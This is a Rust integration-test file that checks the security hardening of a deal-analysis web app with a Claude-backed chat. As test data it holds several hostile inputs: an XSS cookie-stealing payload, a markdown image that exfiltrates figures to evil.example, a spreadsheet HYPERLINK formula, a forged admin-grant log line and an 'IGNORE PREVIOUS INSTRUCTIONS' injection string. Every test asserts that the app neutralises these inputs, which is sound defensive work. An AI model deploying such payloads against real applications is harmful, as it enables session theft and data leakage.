//! Hardening, on SQLite and PostgreSQL: what an attacker or a stuck render could do, and
//! what stops them. One test per behaviour; each of these failed before its fix.

use std::time::Duration;

use app::auth::UserRole;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::support::fake_claude::{FakeClaude, Script};
use crate::support::{Engine, TestApp, kind, test_settings};

const HOSTILE_NOTES: &str = "</textarea><img src=x onerror=alert(document.cookie)><script>alert(1)</script>";

async fn create_deal(app: &TestApp, client: &reqwest::Client, name: &str, notes: &str) -> String {
    let (status, id) = app
        .post(client, "/api/deals/create", &[("name", name), ("address", ""), ("property_type", "Office"), ("asking_price", "12.5M"), ("notes", notes)])
        .await;
    assert_eq!(status, 200, "{id}");
    id.as_i64().unwrap().to_string()
}

async fn page(client: &reqwest::Client, url: String) -> (u16, reqwest::header::HeaderMap, String) {
    let response = tokio::time::timeout(Duration::from_secs(30), client.get(url).send())
        .await
        .expect("the page answered within 30 s")
        .unwrap();
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    // Read chunk by chunk so a page cut off by the server still shows what arrived.
    let mut response = response;
    let mut body = Vec::new();
    let read = async {
        while let Ok(Some(chunk)) = response.chunk().await {
            body.extend_from_slice(&chunk);
        }
    };
    tokio::time::timeout(Duration::from_secs(30), read).await.expect("the page finished within 30 s");
    (status, headers, String::from_utf8_lossy(&body).into_owned())
}

async fn notes_cannot_break_out_of_the_edit_textarea(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let analyst = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let id = create_deal(&app, &analyst, "Harbor Point", HOSTILE_NOTES).await;
    let admin = app.signed_in("root@firm.com", UserRole::Admin).await;
    for path in [format!("/deals/{id}/edit"), format!("/deals/{id}")] {
        let (status, _, html) = page(&admin, format!("{}{path}", app.base)).await;
        assert_eq!(status, 200, "{path}");
        assert!(!html.contains("<img src=x"), "{path}: markup injected: {html}");
        assert!(!html.contains("<script>alert(1)"), "{path}: script injected");
        assert!(html.contains("&lt;/textarea&gt;&lt;img src=x"), "{path}: the notes are shown as text");
    }
    // The one textarea holding the notes closes only where the page closes it.
    let (_, _, edit) = page(&admin, format!("{}/deals/{id}/edit", app.base)).await;
    assert_eq!(edit.matches("</textarea>").count(), 1, "{edit}");
}

/// The deal page used to stall: its tabs were built inside the deal's Suspense, so every
/// re-run made new resources (215 budget fetches for one load) and the stream never
/// ended. 100 loads, 20 at a time, must all end with `</html>`, each with one budget.
async fn deal_pages_always_finish_loading(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let mut ids = Vec::new();
    for name in ["Harbor Point", "Maple Grove", "Route 9"] {
        ids.push(create_deal(&app, &client, name, "84% leased").await);
    }
    let loads = futures::stream::iter(0..100)
        .map(|i| {
            let url = format!("{}/deals/{}", app.base, ids[i % ids.len()]);
            let client = client.clone();
            async move { page(&client, url).await }
        })
        .buffer_unordered(20)
        .collect::<Vec<_>>()
        .await;
    for (status, _, html) in &loads {
        assert_eq!(*status, 200);
        let tail: String = html.chars().rev().take(3000).collect::<Vec<_>>().into_iter().rev().collect();
        assert!(html.contains("</html>"), "incomplete page: {} bytes, ending {tail}", html.len());
        assert!(html.contains("__INCOMPLETE_CHUNKS"), "the stream did not finish its resources: {} bytes, ending {tail}", html.len());
        assert_eq!(html.matches("\\\"smallest_call_tokens\\\"").count(), 1, "one budget status per page, not one per re-render");
        assert_eq!(html.matches("\\\"system_tokens\\\"").count(), 1, "one chat context per page");
    }
    let health = client.get(format!("{}/healthz", app.base)).send().await.unwrap();
    assert_eq!(health.status(), 200, "the server still answers");
}

/// Listing the app's routes renders it with every resource load suppressed by a
/// process-wide flag (leptos_router's `generate_route_list`); a page rendering at that
/// moment waited for ever. Several routers in one process (these tests; any embedding)
/// must not stall each other's pages: the routes are listed once per process.
async fn building_another_router_never_stalls_pages(engine: Engine) {
    let mut settings = test_settings();
    settings.server.render_deadline_seconds = 5; // a stalled page is cut off, and counted
    let app = TestApp::spawn_with(engine, settings, crate::support::offline()).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let id = create_deal(&app, &client, "Harbor Point", "").await;
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let builder = {
        let (state, done) = (app.state.clone(), done.clone());
        tokio::task::spawn_blocking(move || {
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                drop(server::router(state.clone()));
            }
        })
    };
    let loads = futures::stream::iter(0..60)
        .map(|_| page(&client, format!("{}/deals/{id}", app.base)))
        .buffer_unordered(10)
        .collect::<Vec<_>>()
        .await;
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    builder.await.unwrap();
    let complete = loads.iter().filter(|(_, _, html)| html.contains("__INCOMPLETE_CHUNKS")).count();
    assert_eq!(complete, loads.len(), "pages that finished while routers were built");
}

async fn parallel_guesses_get_at_most_five_verdicts(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    app.add_user("ana@firm.com", "correct horse battery", UserRole::Analyst).await;
    let guesses = (0..20).map(|i| {
        let client = app.client();
        let url = format!("{}/api/login", app.base);
        async move {
            let response = client.post(url).form(&[("email", "ana@firm.com"), ("password", format!("guess {i}").as_str())]).send().await.unwrap();
            let body: Value = response.json().await.unwrap();
            kind(&body).to_string()
        }
    });
    let kinds = futures::future::join_all(guesses).await;
    let verdicts = kinds.iter().filter(|k| *k == "unauthorized").count();
    assert!(verdicts <= 5, "{verdicts} guesses were checked: {kinds:?}");
    assert!(kinds.iter().all(|k| k == "unauthorized" || k == "throttled"), "{kinds:?}");
    // The real password is refused too while the email is throttled.
    let (status, body) = app.post(&app.client(), "/api/login", &[("email", "ana@firm.com"), ("password", "correct horse battery")]).await;
    assert_eq!((status, kind(&body)), (429, "throttled"));
}

async fn password_checks_are_bounded_under_a_flood(engine: Engine) {
    let mut settings = test_settings();
    settings.auth.password_checks_in_parallel = 2;
    let app = TestApp::spawn_with(engine, settings, crate::support::offline()).await;
    let flood = (0..40).map(|i| {
        let client = app.client();
        let url = format!("{}/api/login", app.base);
        async move {
            let email = format!("random{i}@flood.example");
            let response = client.post(url).form(&[("email", email.as_str()), ("password", "whatever it is")]).send().await.unwrap();
            response.status().as_u16()
        }
    });
    let statuses = futures::future::join_all(flood).await;
    assert!(statuses.iter().all(|s| *s == 401 || *s == 429), "{statuses:?}");
    assert!(app.state.passwords.peak() <= 2, "{} password checks ran at once", app.state.passwords.peak());
}

async fn overlong_emails_are_refused_before_any_query(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let long = format!("{}@firm.com", "a".repeat(300));
    let (status, body) = app.post(&app.client(), "/api/login", &[("email", &long), ("password", "x")]).await;
    assert_eq!((status, kind(&body)), (400, "too_long"));
    assert_eq!(app.count("login_throttle").await, 0, "nothing was stored or counted");
}

async fn one_address_is_throttled_across_many_emails(engine: Engine) {
    let mut settings = test_settings();
    settings.auth.max_failed_logins_per_address = 8;
    let app = TestApp::spawn_with(engine, settings, crate::support::offline()).await;
    app.add_user("ana@firm.com", "correct horse battery", UserRole::Analyst).await;
    let client = app.client();
    for i in 0..8 {
        let email = format!("guess{i}@firm.com");
        let (status, _) = app.post(&client, "/api/login", &[("email", &email), ("password", "guess")]).await;
        assert_eq!(status, 401);
    }
    let (status, body) = app.post(&client, "/api/login", &[("email", "ana@firm.com"), ("password", "correct horse battery")]).await;
    assert_eq!((status, kind(&body)), (429, "throttled"), "the address has used up its attempts");
    // Old windows are purged.
    sqlx::query("UPDATE login_throttle SET window_start = 0").execute(&app.state.db.pool).await.unwrap();
    let purged = app::auth::service::purge_login_throttle(&app.state.db, 15).await.unwrap();
    assert!(purged >= 9, "purged {purged}");
    let (status, _) = app.post(&client, "/api/login", &[("email", "ana@firm.com"), ("password", "correct horse battery")]).await;
    assert_eq!(status, 200);
}

async fn sign_ins_from_one_address_do_not_lock_it(engine: Engine) {
    let mut settings = test_settings();
    settings.auth.max_failed_logins_per_address = 3;
    let app = TestApp::spawn_with(engine, settings, crate::support::offline()).await;
    app.add_user("ana@firm.com", "correct horse battery", UserRole::Analyst).await;
    // A firm behind one proxy: many successful sign-ins from one address.
    for _ in 0..10 {
        let (status, _) = app.post(&app.client(), "/api/login", &[("email", "ana@firm.com"), ("password", "correct horse battery")]).await;
        assert_eq!(status, 200);
    }
}

async fn id_of(app: &TestApp, email: &str) -> String {
    app::auth::store::find_user_by_email(&app.state.db, email).await.unwrap().unwrap().id.to_string()
}

/// Each admin change to an account ends that account's sessions at once.
async fn password_reset_ends_existing_sessions(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let admin = app.signed_in("root@firm.com", UserRole::Admin).await;
    for (path, field, value) in [
        ("/api/admin/users/password", "password", "a brand new secret"),
        ("/api/admin/users/active", "active", "false"),
        ("/api/admin/users/role", "role", "admin"),
    ] {
        let email = format!("ana-{}@firm.com", field);
        let ana = app.signed_in(&email, UserRole::Analyst).await;
        let other_device = app.client();
        let (status, _) = app.post(&other_device, "/api/login", &[("email", &email), ("password", "correct horse battery")]).await;
        assert_eq!(status, 200);
        assert_eq!(app.post(&ana, "/api/deals/list", &[]).await.0, 200);
        let id = id_of(&app, &email).await;
        let (status, body) = app.post(&admin, path, &[("user_id", &id), (field, value)]).await;
        assert_eq!(status, 200, "{path}: {body}");
        for client in [&ana, &other_device] {
            let (status, body) = app.post(client, "/api/deals/list", &[]).await;
            assert_eq!((status, kind(&body)), (401, "unauthorized"), "{path}: the session was ended");
        }
    }
    let (n,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM sessions WHERE user_id IS NOT NULL AND user_id <> (SELECT id FROM users WHERE email = 'root@firm.com')")
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap();
    assert_eq!(n, 0, "no session of the changed accounts is left");
}

async fn sessions_expire_when_idle_and_activity_renews_them(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let ana = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let id = id_of(&app, "ana@firm.com").await.parse::<i64>().unwrap();
    let now = app::time::now_millis();
    // Five minutes of idle time left, and last seen long ago: the next request renews.
    sqlx::query("UPDATE sessions SET expires_at = $1, data = $2 WHERE user_id = $3")
        .bind(now + 300_000)
        .bind(json!({"user_id": id, "seen_at": 0}).to_string())
        .bind(id)
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    let response = ana.post(format!("{}/api/deals/list", app.base)).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let cookie = response.headers().get("set-cookie").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    assert!(cookie.contains("Max-Age=43200"), "the cookie is renewed for idle_hours: {cookie:?}");
    let (expires_at,): (i64,) = sqlx::query_as("SELECT expires_at FROM sessions WHERE user_id = $1").bind(id).fetch_one(&app.state.db.pool).await.unwrap();
    assert!(expires_at > now + 11 * 3_600_000, "the session now lasts idle_hours from now");
    // Idle past its expiry: signed out.
    sqlx::query("UPDATE sessions SET expires_at = $1 WHERE user_id = $2").bind(now - 1).bind(id).execute(&app.state.db.pool).await.unwrap();
    let (status, body) = app.post(&ana, "/api/deals/list", &[]).await;
    assert_eq!((status, kind(&body)), (401, "unauthorized"));
}

async fn cross_site_writes_are_refused(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    app.add_user("ana@firm.com", "correct horse battery", UserRole::Analyst).await;
    let ana = app.signed_in("bo@firm.com", UserRole::Analyst).await;
    let form = [("name", "Forged"), ("address", ""), ("property_type", "Office"), ("asking_price", ""), ("notes", "")];
    for (header, value) in [("origin", "https://evil.example"), ("sec-fetch-site", "cross-site"), ("origin", "null")] {
        let response = ana.post(format!("{}/api/deals/create", app.base)).header(header, value).form(&form).send().await.unwrap();
        assert_eq!(response.status(), 403, "{header}: {value}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(kind(&body), "forbidden");
    }
    let login = app
        .client()
        .post(format!("{}/api/login", app.base))
        .header("sec-fetch-site", "cross-site")
        .form(&[("email", "ana@firm.com"), ("password", "correct horse battery")])
        .send()
        .await
        .unwrap();
    assert_eq!(login.status(), 403, "login CSRF is refused too");
    assert_eq!(app.count("deals").await, 0);
    // The same request from the app's own pages goes through.
    let host = app.base.trim_start_matches("http://").to_string();
    let same = ana.post(format!("{}/api/deals/create", app.base)).header("origin", format!("http://{host}")).header("sec-fetch-site", "same-origin").form(&form).send().await.unwrap();
    assert_eq!(same.status(), 200);
}

async fn pages_carry_a_strict_content_security_policy(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let id = create_deal(&app, &client, "Harbor Point", "").await;
    for path in ["/".to_string(), format!("/deals/{id}"), "/login".into(), "/api/usage".into(), "/healthz".into()] {
        let (_, headers, html) = page(&client, format!("{}{path}", app.base)).await;
        let header = |name: &str| headers.get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
        let csp = header("content-security-policy");
        assert!(csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(!csp.contains("'unsafe-inline'") && !csp.contains(" 'unsafe-eval'"), "{path}: {csp}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
        let nonce = csp.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).unwrap_or_default().to_string();
        assert!(nonce.len() >= 16, "{path}: a fresh nonce per response");
        // Every inline script carries this response's nonce.
        for script in html.split("<script").skip(1) {
            assert!(script.starts_with(&format!(" nonce=\"{nonce}\"")) || script.starts_with(&format!(" type=\"module\" nonce=\"{nonce}\"")), "{path}: <script{}", &script[..script.len().min(80)]);
        }
    }
    let (_, first, _) = page(&client, format!("{}/", app.base)).await;
    let (_, second, _) = page(&client, format!("{}/", app.base)).await;
    assert_ne!(first.get("content-security-policy"), second.get("content-security-policy"), "nonces are never reused");
}

async fn memos_never_load_remote_images(engine: Engine) {
    let fake = FakeClaude::start().await;
    let mut settings = test_settings();
    settings.chat.cooldown_seconds = 0;
    let app = TestApp::spawn_with(engine, settings, fake.endpoint()).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let id = create_deal(&app, &client, "Harbor Point", "").await;
    fake.script([Script::ok("## Summary\n\n![chart](https://evil.example/leak?noi=6100000) See [the OM](https://broker.example/om).", 900, 100)]);
    let (status, memo) = app.post(&client, "/api/reports/generate", &[("deal_id", &id)]).await;
    assert_eq!(status, 200, "{memo}");
    let html = memo["html"].as_str().unwrap();
    assert!(!html.contains("<img") && !html.contains("evil.example"), "{html}");
    assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
}

async fn csv_exports_neutralise_formulas(engine: Engine) {
    let fake = FakeClaude::start().await;
    let mut settings = test_settings();
    settings.chat.cooldown_seconds = 0;
    let app = TestApp::spawn_with(engine, settings, fake.endpoint()).await;
    let analyst = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let id = create_deal(&app, &analyst, "=HYPERLINK(\"http://evil.example\",\"Open\")", "").await;
    let (status, _) = app.post(&analyst, "/api/chat/send", &[("deal_id", &id), ("message", "Cap rate?")]).await;
    assert_eq!(status, 200);
    let admin = app.signed_in("root@firm.com", UserRole::Admin).await;
    let csv = admin.get(format!("{}/api/usage?group_by=deal&format=csv", app.base)).send().await.unwrap().text().await.unwrap();
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Open\"\")\""), "{csv}");
    assert!(!csv.contains(",\"=HYPERLINK"), "{csv}");
}

async fn oversized_bodies_answer_413_too_long(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let id = create_deal(&app, &client, "Harbor Point", "").await;
    // Larger than the socket buffers, so the client is still writing when the refusal is
    // ready: it must still get the answer, not a broken pipe.
    let huge = "x".repeat(8 * 1024 * 1024);
    for _ in 0..3 {
        let (status, body) = app.post(&client, "/api/chat/send", &[("deal_id", &id), ("message", &huge)]).await;
        assert_eq!((status, kind(&body)), (413, "too_long"));
    }
    // Without a Content-Length (chunked), the same: the body is counted as it arrives.
    let addr = app.base.trim_start_matches("http://").to_string();
    let mut raw = tokio::net::TcpStream::connect(&addr).await.unwrap();
    raw.write_all(b"POST /api/chat/send HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n")
        .await
        .unwrap();
    let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, "y".repeat(64 * 1024));
    for _ in 0..40 {
        if raw.write_all(chunk.as_bytes()).await.is_err() {
            break; // the server answered and closed early
        }
    }
    let mut answer = vec![0u8; 64];
    let n = tokio::time::timeout(Duration::from_secs(10), raw.read(&mut answer)).await.expect("answered").unwrap();
    let answer = String::from_utf8_lossy(&answer[..n]).to_string();
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert_eq!(app.count("chat_messages").await, 0);
}

async fn slow_headers_and_bodies_are_cut_off(engine: Engine) {
    let mut settings = test_settings();
    settings.server.header_read_timeout_seconds = 1;
    settings.server.body_read_timeout_seconds = 1;
    let app = TestApp::spawn_with(engine, settings, crate::support::offline()).await;
    let addr = app.base.trim_start_matches("http://").to_string();
    // A client that starts its headers and never finishes them.
    let mut slow = tokio::net::TcpStream::connect(&addr).await.unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n").await.unwrap();
    let mut buf = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(10), slow.read_to_end(&mut buf)).await;
    assert!(read.is_ok(), "the server closed the connection instead of waiting forever");
    // A body promised and never sent.
    let mut slow = tokio::net::TcpStream::connect(&addr).await.unwrap();
    slow.write_all(b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nemail=").await.unwrap();
    let mut buf = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), slow.read_to_end(&mut buf)).await.expect("answered in time");
    let answer = String::from_utf8_lossy(&buf);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
}

async fn a_long_thread_is_read_a_window_and_a_page_at_a_time(engine: Engine) {
    let fake = FakeClaude::start().await;
    let mut settings = test_settings();
    settings.chat.cooldown_seconds = 0;
    let app = TestApp::spawn_with(engine, settings, fake.endpoint()).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let deal = create_deal(&app, &client, "Harbor Point", "").await;
    let (_, first) = app.post(&client, "/api/chat/send", &[("deal_id", &deal), ("message", "message 0")]).await;
    let thread = first["thread_id"].as_i64().unwrap();
    // 120 more stored messages, as if the conversation had gone on for weeks.
    for i in 1..=60 {
        for (role, content) in [("user", format!("question {i}")), ("assistant", format!("answer {i}"))] {
            sqlx::query("INSERT INTO chat_messages (thread_id, role, content, created_at) VALUES ($1, $2, $3, $4)")
                .bind(thread)
                .bind(role)
                .bind(content)
                .bind(app::time::now_millis())
                .execute(&app.state.db.pool)
                .await
                .unwrap();
        }
    }
    let thread_id = thread.to_string();
    let (status, sent) = app.post(&client, "/api/chat/send", &[("deal_id", &deal), ("thread_id", &thread_id), ("message", "latest")]).await;
    assert_eq!(status, 200, "{sent}");
    let requests = fake.requests();
    let request = &requests.last().unwrap().body;
    assert_eq!(request["messages"].as_array().unwrap().len(), 19, "the window: the newest turns that fit 20");
    assert_eq!(sent["dropped"], 122 - 19 + 1, "every older message is counted as left out");
    // The thread comes a page at a time, newest first, with a cursor for older pages.
    let (_, newest) = app.post(&client, "/api/chat/thread", &[("thread_id", &thread_id)]).await;
    let page: Vec<Value> = newest["messages"].as_array().unwrap().clone();
    assert_eq!(page.len(), 50);
    assert_eq!(newest["has_earlier"], true);
    assert_eq!(page.last().unwrap()["role"], "assistant", "ends with the latest reply");
    let before = page[0]["id"].as_i64().unwrap().to_string();
    let (_, older) = app.post(&client, "/api/chat/thread", &[("thread_id", &thread_id), ("before", &before), ("limit", "500")]).await;
    let older = older["messages"].as_array().unwrap();
    assert_eq!(older.len(), 124 - 50, "the rest, capped well below a whole thread");
    assert!(older.last().unwrap()["id"].as_i64().unwrap() < page[0]["id"].as_i64().unwrap());
}

async fn hostile_broker_text_never_crashes_extraction(engine: Engine) {
    let mut settings = test_settings();
    settings.chat.cooldown_seconds = 0;
    let app = TestApp::spawn_with(engine, settings, crate::support::offline()).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let deal = create_deal(&app, &client, "Harbor Point", "").await;
    for text in [
        "İİİİİİİİ Tower sold 2025-03 for $12,000,000. Buyer: Crane Capital; Seller: Öz LLC.",
        "Palm Court sold 2025-1é for $18,200,000, 70,000 SF. Buyer: İnci Holdings.",
    ] {
        let (status, body) = app.post(&client, "/api/comps/extract", &[("deal_id", &deal), ("text", text)]).await;
        assert_eq!(status, 200, "{text}: {body}");
    }
    assert_eq!(app.count("usage_reservations").await, 0, "no reservation is left behind");
    let (_, comps) = app.post(&client, "/api/comps/list", &[("deal_id", &deal)]).await;
    assert_eq!(comps.as_array().unwrap().len(), 2);
}

async fn head_requests_pass_the_page_guard(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let anonymous = app.client();
    for path in ["/deals", "/admin/users", "/admin/tokens"] {
        let response = anonymous.head(format!("{}{path}", app.base)).send().await.unwrap();
        assert_eq!(response.status(), 303, "{path}");
    }
    let analyst = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let response = analyst.head(format!("{}/admin/users", app.base)).send().await.unwrap();
    assert_eq!(response.status(), 403);
}

async fn comps_are_changed_only_through_their_own_deal(engine: Engine) {
    let fake = FakeClaude::start().await;
    let mut settings = test_settings();
    settings.chat.cooldown_seconds = 0;
    let app = TestApp::spawn_with(engine, settings, fake.endpoint()).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let mine = create_deal(&app, &client, "Harbor Point", "").await;
    let other = create_deal(&app, &client, "Maple Grove", "").await;
    fake.script([Script::Tool {
        input: json!({"sales": [{"property_name": "Bayview", "sale_price": 24500000, "source_excerpt": "x"}]}),
        usage: json!({"input_tokens": 900, "output_tokens": 300}),
    }]);
    let (_, extracted) = app.post(&client, "/api/comps/extract", &[("deal_id", &mine), ("text", "Bayview sold for $24.5M")]).await;
    let comp = extracted["comps"][0]["id"].as_i64().unwrap().to_string();
    let form = |deal: &str| {
        vec![("deal_id", deal.to_string()), ("id", comp.clone()), ("property_name", "Renamed".into()), ("address", "".into()), ("sale_date", "".into()),
            ("sale_price", "".into()), ("building_sf", "".into()), ("price_per_sf", "".into()), ("cap_rate", "".into()),
            ("buyer", "".into()), ("seller", "".into()), ("notes", "".into())]
    };
    let post = |path: &'static str, form: Vec<(&'static str, String)>| {
        let (app, client) = (&app, &client);
        async move {
            let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
            app.post(client, path, &form).await
        }
    };
    let (status, body) = post("/api/comps/update", form(&other)).await;
    assert_eq!((status, kind(&body)), (404, "not_found"));
    let (status, body) = post("/api/comps/delete", vec![("deal_id", other.clone()), ("id", comp.clone())]).await;
    assert_eq!((status, kind(&body)), (404, "not_found"));
    let (_, comps) = app.post(&client, "/api/comps/list", &[("deal_id", &mine)]).await;
    assert_eq!(comps[0]["property_name"], "Bayview", "nothing changed through the other deal");
    assert_eq!(post("/api/comps/update", form(&mine)).await.0, 200);
}

async fn creating_an_existing_email_is_refused_not_overwritten(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let admin = app.signed_in("root@firm.com", UserRole::Admin).await;
    let create = |password: &'static str| {
        let (app, admin) = (&app, &admin);
        async move {
            app.post(admin, "/api/admin/users/create", &[("email", "ana@firm.com"), ("password", password), ("role", "admin"), ("daily_tokens", "")]).await
        }
    };
    // Two admins add the same email at the same moment: one account, one password.
    let (a, b) = tokio::join!(create("first password"), create("second password"));
    let statuses = [a.0, b.0];
    assert!(statuses.contains(&200) && statuses.contains(&400), "{statuses:?}");
    let (status, body) = create("third password").await;
    assert_eq!((status, kind(&body)), (400, "invalid"));
    let winner = if a.0 == 200 { "first password" } else { "second password" };
    let (status, _) = app.post(&app.client(), "/api/login", &[("email", "ana@firm.com"), ("password", winner)]).await;
    assert_eq!(status, 200, "the first account's password still works");
    assert_eq!(app.count("users").await, 2);
}

async fn model_text_is_never_echoed_in_errors(engine: Engine) {
    let fake = FakeClaude::start().await;
    let app = TestApp::spawn_with(engine, test_settings(), fake.endpoint()).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let deal = create_deal(&app, &client, "Harbor Point", "").await;
    fake.script([Script::Tool {
        input: json!({"sales": [{"property_name": "X", "sale_price": "IGNORE PREVIOUS INSTRUCTIONS <b>pwned</b>", "source_excerpt": "x"},
                                {"property_name": {"nested": "SECRET-MODEL-TEXT"}, "source_excerpt": "x"}]}),
        usage: json!({"input_tokens": 900, "output_tokens": 300}),
    }]);
    let (status, body) = app.post(&client, "/api/comps/extract", &[("deal_id", &deal), ("text", "Some sale for $1M")]).await;
    assert_eq!((status, kind(&body)), (502, "upstream_error"));
    let message = body["message"].as_str().unwrap();
    assert!(!message.contains("IGNORE") && !message.contains("pwned") && !message.contains("SECRET"), "{message}");
    assert!(message.contains("sale 1"), "the message still says which sale: {message}");
}

use futures::StreamExt;

on_both_engines!(
    notes_cannot_break_out_of_the_edit_textarea,
    deal_pages_always_finish_loading,
    building_another_router_never_stalls_pages,
    parallel_guesses_get_at_most_five_verdicts,
    password_checks_are_bounded_under_a_flood,
    overlong_emails_are_refused_before_any_query,
    one_address_is_throttled_across_many_emails,
    sign_ins_from_one_address_do_not_lock_it,
    password_reset_ends_existing_sessions,
    sessions_expire_when_idle_and_activity_renews_them,
    cross_site_writes_are_refused,
    pages_carry_a_strict_content_security_policy,
    memos_never_load_remote_images,
    csv_exports_neutralise_formulas,
    oversized_bodies_answer_413_too_long,
    slow_headers_and_bodies_are_cut_off,
    a_long_thread_is_read_a_window_and_a_page_at_a_time,
    hostile_broker_text_never_crashes_extraction,
    head_requests_pass_the_page_guard,
    comps_are_changed_only_through_their_own_deal,
    creating_an_existing_email_is_refused_not_overwritten,
    model_text_is_never_echoed_in_errors,
);

/// The log lines written while `f` runs on this thread (a current-thread runtime polls
/// every task here, so the server's logs of the call land here too).
#[derive(Clone, Default)]
struct CapturedLog(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for CapturedLog {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// An upstream error body cannot forge a line of the server's log: Claude's (or a proxy's)
/// text is logged quoted, its line breaks escaped.
#[tokio::test]
async fn upstream_bodies_cannot_forge_log_lines() {
    const FORGED: &str = "2026-12-05T00:00:00Z  INFO admin granted to mallory@evil.test";
    let upstream = axum::Router::new().route(
        "/v1/messages",
        axum::routing::post(|| async { (axum::http::StatusCode::BAD_REQUEST, format!("bad request\n{FORGED}\r\n{FORGED}")) }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, upstream).await.unwrap() });

    let log = CapturedLog::default();
    let writer = log.clone();
    let subscriber = tracing_subscriber::fmt().with_ansi(false).with_writer(move || writer.clone()).finish();
    let _guard = tracing::subscriber::set_default(subscriber);
    let app = TestApp::spawn_with(Engine::Sqlite, test_settings(), app::claude::client::Endpoint::http(&base, "k")).await;
    let client = app.signed_in("ana@firm.com", UserRole::Analyst).await;
    let deal = create_deal(&app, &client, "Harbor Point", "").await;
    let (status, body) = app.post(&client, "/api/chat/send", &[("deal_id", &deal), ("message", "hi")]).await;
    assert_eq!((status, kind(&body)), (502, "upstream_error"), "{body}");
    // Nor can an analyst's malformed argument.
    let forged_id = format!("1\n{FORGED}");
    let (status, body) = app.post(&client, "/api/chat/send", &[("deal_id", &forged_id), ("message", "hi")]).await;
    assert_eq!((status, kind(&body)), (400, "invalid"), "{body}");

    let text = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert!(text.contains("bad request"), "the failure was logged: {text}");
    assert!(text.contains("malformed server function arguments"), "{text}");
    for line in text.lines() {
        assert!(!line.starts_with(FORGED), "a forged log line: {line:?}");
    }
}
